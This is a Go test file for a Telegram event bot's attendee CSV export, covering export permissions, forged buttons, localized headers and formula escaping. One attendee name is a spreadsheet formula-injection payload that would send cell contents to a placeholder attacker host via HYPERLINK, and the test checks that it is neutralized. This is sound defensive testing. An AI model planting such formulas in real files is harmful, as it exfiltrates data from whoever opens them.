package handlers_test

// The attendee export driven as an organizer uses it: /export in the
// group, the Manage menu's button, the deep link for someone the bot may
// not write to yet. The file is read back the way the fake Bot API
// received it (a multipart upload) and parsed with encoding/csv.

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-telegram/bot/models"

	"github.com/rsvpbot/rsvpbot/bot/bottest"
	"github.com/rsvpbot/rsvpbot/handlers/handlerstest"
)

const utf8BOM = "\xEF\xBB\xBF"

// lastExport is the newest CSV file the bot uploaded to chatID, parsed:
// it must come as a multipart upload with a .csv name and start with the
// byte order mark.
func (h *evHarness) lastExport(chatID int64) [][]string {
	h.T.Helper()
	var call *bottest.Call
	for _, c := range h.Fake.CallsTo("sendDocument") {
		if c.ChatID == chatID && c.OK() {
			call = &c
		}
	}
	if call == nil {
		h.T.Fatalf("no file sent to chat %d", chatID)
	}
	f, uploaded := call.Files["document"]
	if !uploaded {
		h.T.Fatalf("document not uploaded as multipart: %v", call.Params)
	}
	if !strings.HasSuffix(f.Name, ".csv") {
		h.T.Fatalf("file name %q", f.Name)
	}
	if !bytes.HasPrefix(f.Data, []byte(utf8BOM)) {
		h.T.Fatalf("no byte order mark: %q", f.Data[:min(len(f.Data), 10)])
	}
	recs, err := csv.NewReader(bytes.NewReader(f.Data[len(utf8BOM):])).ReadAll()
	if err != nil {
		h.T.Fatalf("CSV does not parse: %v\n%s", err, f.Data)
	}
	return recs
}

// documentsTo counts the files the bot sent to chatID.
func (h *evHarness) documentsTo(chatID int64) int {
	n := 0
	for _, m := range h.Fake.Messages(chatID) {
		if m.Document != nil {
			n++
		}
	}
	return n
}

func TestExportCSV(t *testing.T) {
	h := startEvents(t, handlerstest.Options{})
	h.Fake.SetChatMember(party, alice, models.ChatMemberTypeAdministrator)
	h.startPrivately(alice)
	h.Send(party, alice, "/event Квиз 🎉 <b>&</b> | sat 19:00 | Pub | 3")
	card := h.card(party.ID)
	id := strconv.FormatInt(h.lastEventID(), 10)
	// The chat's zone, set after the event was made in Berlin's, is the
	// zone of the answer times.
	h.Send(party, alice, "/timezone America/New_York")
	ny, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Fatal(err)
	}

	person := func(id int64, first, last, username string) models.User {
		return models.User{ID: id, FirstName: first, LastName: last, Username: username, LanguageCode: "en"}
	}
	olga := person(3101, "Ольга", "Петрова", "olga_p")
	ana := person(3102, "Ana 🎉💃", "", "")
	hyper := person(3103, `=HYPERLINK("http://evil.example/?"&A1,"click")`, "", "")
	plus := person(3104, "+SUM(1,2)", "", "")
	minus := person(3105, "-2+3", "", "")
	at := person(3106, "@cmd", "", "")
	tab := person(3107, "\tTabby", "", "")
	presses := []struct {
		who    models.User
		action string
	}{
		{olga, "plus"}, // going with a guest: 2 of 3 places
		{ana, "go"},    // full
		{hyper, "go"},  // waitlist 1
		{plus, "go"},   // waitlist 2
		{minus, "maybe"},
		{at, "no"},
		{tab, "maybe"},
	}
	answered := map[int64]string{}
	for i, p := range presses {
		when := evNow.Add(time.Duration(i+1) * time.Minute)
		h.setNow(when)
		h.Click(party, p.who, card.ID, "rsvp:"+id+":"+p.action)
		answered[p.who.ID] = when.In(ny).Format("2006-01-02 15:04")
	}

	h.Send(party, alice, "/export "+id)
	mustContain(t, "group reply", h.LastText(party.ID), "private chat")
	if n := h.documentsTo(party.ID); n != 0 {
		t.Fatalf("%d files sent to the group", n)
	}
	calls := h.Fake.CallsTo("sendDocument")
	mustContain(t, "caption", calls[len(calls)-1].Params["caption"], "Квиз 🎉 &lt;b&gt;&amp;&lt;/b&gt;")
	got := h.lastExport(alice.ID)
	want := [][]string{
		{"Name", "Username", "Answer", "Guests", "Waitlist place", "Answered at (America/New_York)", "Sign-up answer"},
		{"Ольга Петрова", "olga_p", "Going", "1", "", answered[olga.ID], ""},
		{"Ana 🎉💃", "", "Going", "0", "", answered[ana.ID], ""},
		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "", "Waitlist", "0", "1", answered[hyper.ID], ""},
		{"'+SUM(1,2)", "", "Waitlist", "0", "2", answered[plus.ID], ""},
		{"'-2+3", "", "Maybe", "0", "", answered[minus.ID], ""},
		{"Tabby", "", "Maybe", "0", "", answered[tab.ID], ""}, // names are trimmed
		{"'@cmd", "", "Can't go", "0", "", answered[at.ID], ""},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Fatalf("CSV:\n got %q\nwant %q", got, want)
	}
	if answered[olga.ID] != "2026-12-04 04:01" {
		t.Fatalf("answer time %q is not New York's", answered[olga.ID])
	}
}

func TestExportRefusedLikeAMissingEvent(t *testing.T) {
	h := startEvents(t, handlerstest.Options{Admins: []int64{admin.ID}})
	frank := handlerstest.User(3010, "Frank", "en")
	mallory := handlerstest.User(3099, "Mallory", "en")
	h.Fake.SetChatMember(party, frank, models.ChatMemberTypeAdministrator)
	h.startPrivately(alice, eve, mallory, frank, admin)
	h.Send(party, alice, "/event Quiz | sat 19:00 | Pub")
	card := h.card(party.ID)
	h.press(party, eve, card, "Going")
	id := h.lastEventID()
	ids := strconv.FormatInt(id, 10)
	code := h.shareCode(id)
	const missing = "99999"

	// The answer to a number that exists, with the number written as N.
	answer := func(chat models.Chat, who models.User, arg string) string {
		h.Send(chat, who, "/export "+arg)
		return strings.ReplaceAll(h.LastText(chat.ID), arg, "N")
	}
	none := answer(party, eve, missing)
	mustContain(t, "missing", none, "no event number N")
	for _, c := range []struct {
		name string
		chat models.Chat
		who  models.User
	}{
		{"member who answered, in the group", party, eve},
		{"member who answered, privately", bottest.PrivateChat(eve), eve},
		{"stranger with a guessed number", bottest.PrivateChat(mallory), mallory},
	} {
		if got := answer(c.chat, c.who, ids); got != none {
			t.Errorf("%s: %q, for a missing event %q", c.name, got, none)
		}
		if got := answer(c.chat, c.who, missing); got != none {
			t.Errorf("%s, missing event: %q, want %q", c.name, got, none)
		}
	}
	// The link the bot offers in groups: a share code is not enough.
	h.Send(bottest.PrivateChat(mallory), mallory, "/start evx_"+code)
	refused := h.LastText(mallory.ID)
	h.Send(bottest.PrivateChat(mallory), mallory, "/start evx_Zz9Zz9Zz9Z")
	if dead := h.LastText(mallory.ID); refused != dead {
		t.Errorf("link refused %q, dead link %q", refused, dead)
	}
	// The Manage menu's button, forged.
	h.Click(party, eve, card.ID, "evm:"+ids+":export")
	forged := h.lastToast()
	h.Click(party, eve, card.ID, "evm:"+missing+":export")
	if gone := h.lastToast(); forged != gone || gone == "" {
		t.Errorf("forged export toast %q, missing event %q", forged, gone)
	}
	for _, who := range []models.User{eve, mallory} {
		if n := h.documentsTo(who.ID); n != 0 {
			t.Fatalf("%s got %d files", who.FirstName, n)
		}
	}

	// The chat's admin and a bot admin may; so may the organizer privately.
	for _, who := range []models.User{frank, admin, alice} {
		h.Send(bottest.PrivateChat(who), who, "/export "+ids)
		if recs := h.lastExport(who.ID); len(recs) != 2 || recs[1][0] != "Eve" {
			t.Errorf("%s's export: %q", who.FirstName, recs)
		}
	}
}

func TestExportFromTheManageMenu(t *testing.T) {
	h := startEvents(t, handlerstest.Options{})
	h.startPrivately(alice)
	h.Send(party, alice, "/event Hike | sat 09:00 | Station")
	card := h.card(party.ID)
	h.press(party, bob, card, "Maybe")
	h.press(party, alice, card, "Manage")
	menu := h.Last(alice.ID)
	h.press(bottest.PrivateChat(alice), alice, menu, "Export")
	if got := h.lastToast(); got != "" {
		t.Errorf("toast in the private chat %q", got)
	}
	recs := h.lastExport(alice.ID)
	if len(recs) != 2 || recs[1][0] != "Bob" || recs[1][2] != "Maybe" {
		t.Fatalf("export from the menu: %q", recs)
	}
}

func TestExportWithoutPrivateChat(t *testing.T) {
	h := startEvents(t, handlerstest.Options{})
	h.Fake.SetNotStarted(dave.ID)
	h.Send(party, dave, "/event Picnic | sat 12:00 | Park")
	card := h.card(party.ID)
	h.press(party, bob, card, "Going")
	id := h.lastEventID()

	h.Send(party, dave, "/export "+strconv.FormatInt(id, 10))
	reply := h.Last(party.ID)
	mustContain(t, "group reply", reply.Text, "private chat", "button")
	link := ""
	for _, b := range reply.ReplyMarkup.InlineKeyboard[0] {
		link = b.URL
	}
	want := "https://t.me/" + h.Fake.Bot().Username + "?start=evx_" + h.shareCode(id)
	if link != want {
		t.Fatalf("button link %q, want %q", link, want)
	}
	if n := len(h.Fake.CallsTo("sendDocument")); n != 0 {
		t.Fatalf("%d files sent to someone the bot may not write to", n)
	}
	// Someone else in the group presses the same button.
	h.Send(bottest.PrivateChat(bob), bob, "/start evx_"+h.shareCode(id))
	mustContain(t, "someone else", h.LastText(bob.ID), "no longer exists")
	// Dave does: the private chat opens with /start, and the file follows.
	h.Send(bottest.PrivateChat(dave), dave, "/start evx_"+h.shareCode(id))
	if recs := h.lastExport(dave.ID); len(recs) != 2 || recs[1][0] != "Bob" {
		t.Fatalf("export through the link: %q", recs)
	}
	// Typed in a group, the link's payload never posts the file there.
	h.Send(party, dave, "/start evx_"+h.shareCode(id))
	if n := h.documentsTo(party.ID); n != 0 {
		t.Fatalf("%d files posted in the group", n)
	}
}

func TestExportHeaderInEachLanguage(t *testing.T) {
	h := startEvents(t, handlerstest.Options{})
	for _, c := range []struct {
		who  models.User
		want []string
	}{
		{alice, []string{"Name", "Username", "Answer", "Guests", "Waitlist place", "Answered at (Europe/Berlin)", "Sign-up answer", "Going"}},
		{oleg, []string{"Имя", "Имя пользователя", "Ответ", "Гости", "Место в листе ожидания", "Время ответа (Europe/Berlin)", "Ответ на вопрос", "Иду"}},
		{jonas, []string{"Name", "Benutzername", "Antwort", "Gäste", "Wartelistenplatz", "Geantwortet am (Europe/Berlin)", "Antwort auf die Frage", "Dabei"}},
		{lucia, []string{"Nombre", "Usuario", "Respuesta", "Invitados", "Puesto en la lista de espera", "Respondió el (Europe/Berlin)", "Respuesta a la pregunta", "Voy"}},
	} {
		private := bottest.PrivateChat(c.who)
		h.Send(private, c.who, "/event Party | sat 20:00")
		h.press(private, c.who, h.card(c.who.ID), "✅")
		h.Send(private, c.who, "/export "+strconv.FormatInt(h.lastEventID(), 10))
		recs := h.lastExport(c.who.ID)
		if len(recs) != 2 {
			t.Fatalf("%s: %q", c.who.LanguageCode, recs)
		}
		if got := append(recs[0], recs[1][2]); !slices.Equal(got, c.want) {
			t.Errorf("%s: header and status %q, want %q", c.who.LanguageCode, got, c.want)
		}
	}
}

func TestExportWithoutArgumentListsWhatYouMayExport(t *testing.T) {
	h := startEvents(t, handlerstest.Options{})
	h.Send(party, alice, "/event Alice's quiz | sat 19:00")
	quiz := h.lastEventID()
	h.Send(party, bob, "/event Bob's run | sun 08:00")
	run := h.lastEventID()

	h.Send(party, alice, "/export")
	list := h.LastText(party.ID)
	mustContain(t, "alice's list", list, "Alice's quiz", "/export "+strconv.FormatInt(quiz, 10), "/export number")
	if strings.Contains(list, "Bob's run") {
		t.Errorf("alice's list shows bob's event: %q", list)
	}
	h.Send(party, eve, "/export")
	mustContain(t, "eve's list", h.LastText(party.ID), "no upcoming events here whose answers you can export")
	h.Send(party, bob, "/export "+strconv.FormatInt(run, 10)+" extra")
	mustContain(t, "usage", h.LastText(party.ID), "/export number")

	// Privately: the events alice organizes, in any chat.
	club := bottest.Group(-4002, "Club")
	h.Send(club, alice, "/event Club night | sun 21:00")
	night := h.lastEventID()
	alone := bottest.PrivateChat(alice)
	h.Send(alone, alice, "/export")
	list = h.LastText(alice.ID)
	mustContain(t, "alice's private list", list, "Upcoming events you organize", "Alice's quiz", "Club night",
		"/export "+strconv.FormatInt(night, 10))
	if strings.Contains(list, "Bob's run") {
		t.Errorf("alice's private list shows bob's event: %q", list)
	}
	// Once over, an event leaves the list but can still be exported.
	h.setNow(evNow.Add(7 * 24 * time.Hour))
	h.Send(alone, alice, "/export")
	mustContain(t, "after the events", h.LastText(alice.ID), "You organize no upcoming events")
	h.Send(alone, alice, "/export "+strconv.FormatInt(quiz, 10))
	if recs := h.lastExport(alice.ID); len(recs) != 1 {
		t.Fatalf("export of a past event: %q", recs)
	}
}

// When Telegram cannot say who the chat's admins are, a chat admin gets
// the apology (permissions.go) and no file; a stranger still gets "no such
// event", so a failing lookup is no oracle either.
func TestExportWhileAdminLookupFails(t *testing.T) {
	h := startEvents(t, handlerstest.Options{})
	mallory := handlerstest.User(3099, "Mallory", "en")
	h.Fake.SetChatMember(party, bob, models.ChatMemberTypeAdministrator)
	h.startPrivately(bob, mallory)
	h.Send(party, alice, "/event Quiz | sat 19:00 | Pub")
	ids := strconv.FormatInt(h.lastEventID(), 10)
	failLookup := func() { h.Fake.FailNext(bottest.Fault{Method: "getChatAdministrators", Status: 502}) }

	failLookup()
	h.Send(party, bob, "/export "+ids)
	mustContain(t, "admin, lookup failing", h.LastText(party.ID), "Sorry, something went wrong")
	failLookup()
	h.Send(bottest.PrivateChat(mallory), mallory, "/export "+ids)
	mustContain(t, "stranger, lookup failing", h.LastText(mallory.ID), "no event number "+ids)
	if n := len(h.Fake.CallsTo("sendDocument")); n != 0 {
		t.Fatalf("%d files sent while the lookup failed", n)
	}
	h.Send(party, bob, "/export "+ids)
	if recs := h.lastExport(bob.ID); len(recs) != 1 {
		t.Fatalf("after the outage: %q", recs)
	}
}
